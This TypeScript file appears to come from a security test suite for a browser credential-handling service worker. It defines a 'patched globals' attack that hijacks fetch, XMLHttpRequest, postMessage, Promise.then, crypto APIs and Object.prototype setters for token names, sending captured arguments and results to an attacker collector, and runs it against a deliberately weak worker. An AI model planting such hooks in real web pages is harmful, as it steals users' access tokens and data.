import type { Attack } from '../attack.js';
import { weakWorker } from '../weak/weak-workers.js';

/** Replaces what the app's code will use, and carries away every argument and every result. */
function patchEverything(): void {
  const wrapped = new WeakSet<object>();
  const spy = (owner: object, name: string) => {
    const original: unknown = Reflect.get(owner, name);
    if (typeof original !== 'function' || wrapped.has(original)) return;
    const patched = function (this: unknown, ...parameters: unknown[]) {
      attacker.take(`patched ${name}`, parameters);
      const result: unknown = new.target
        ? Reflect.construct(original, parameters, new.target)
        : Reflect.apply(original, this, parameters);
      if (result instanceof Promise)
        result.then(
          (value) => attacker.take(`patched ${name}`, value),
          () => 0,
        );
      else attacker.take(`patched ${name}`, result);
      return result;
    };
    Object.setPrototypeOf(patched, original);
    patched.prototype = original.prototype;
    wrapped.add(patched);
    Object.defineProperty(owner, name, { value: patched, configurable: true, writable: true });
  };
  for (const name of ['fetch', 'open', 'postMessage', 'MessageChannel', 'BroadcastChannel', 'Request'])
    spy(globalThis, name);
  for (const name of ['open', 'send', 'setRequestHeader']) spy(XMLHttpRequest.prototype, name);
  for (const name of ['register', 'getRegistration', 'getRegistrations'])
    spy(ServiceWorkerContainer.prototype, name);
  spy(ServiceWorker.prototype, 'postMessage');
  spy(MessagePort.prototype, 'postMessage');
  spy(BroadcastChannel.prototype, 'postMessage');
  spy(EventTarget.prototype, 'dispatchEvent');
  spy(Headers.prototype, 'set');
  spy(Storage.prototype, 'setItem');
  for (const name of ['json', 'text', 'arrayBuffer']) spy(Response.prototype, name);
  for (const name of ['put', 'add', 'get']) spy(IDBObjectStore.prototype, name);
  for (const name of ['encrypt', 'decrypt', 'sign', 'importKey', 'digest']) spy(SubtleCrypto.prototype, name);
  spy(JSON, 'parse');
  const { then } = Promise.prototype;
  const patchedThen = function (
    this: Promise<unknown>,
    done?: ((value: unknown) => unknown) | null,
    failed?: (reason: unknown) => unknown,
  ) {
    const looked = (value: unknown) => {
      if (typeof value === 'string' && value.length > 20) attacker.take('patched then', value);
      return done ? done(value) : value;
    };
    return Reflect.apply(then, this, [looked, failed]);
  };
  Object.defineProperty(Promise.prototype, 'then', {
    value: patchedThen,
    configurable: true,
    writable: true,
  });
  // What a plain object is asked for and lacks is asked of its prototype.
  for (const name of ['accessToken', 'access_token', 'token', 'url', 'headers', 'value', 'authorization']) {
    let kept: unknown;
    Object.defineProperty(Object.prototype, name, {
      configurable: true,
      get: () => kept,
      set(this: object, value: unknown) {
        attacker.take(`Object.prototype.${name}`, value);
        if (this === Object.prototype) kept = value;
        else
          Object.defineProperty(this, name, { value, configurable: true, enumerable: true, writable: true });
      },
    });
  }
}

export const patchedGlobals: Attack = {
  name: 'patched globals',
  tries:
    'replaces fetch, XMLHttpRequest, channels, postMessage, Promise, Object.prototype, register, crypto before the app',
  threat: '5.1.1',
  defence: 'no credential passes through the page: the worker adds it',
  weakness: { without: 'a silent worker', deployment: { system: weakWorker('talkative') } },
  before: patchEverything,
  run: async (stage) => {
    await stage.tab.evaluate(
      "globalThis[Symbol.for('session-keeper.session')].renew().then(() => 0, () => 0)",
    );
    await stage.run(async (api) => {
      await fetch(`${api}/v1/time`).then((response) => response.text());
      await new Promise((resolve) => {
        const xhr = new XMLHttpRequest();
        xhr.onloadend = resolve;
        xhr.open('GET', `${api}/v1/time`);
        xhr.send();
      });
    }, stage.system.api.origin);
  },
};
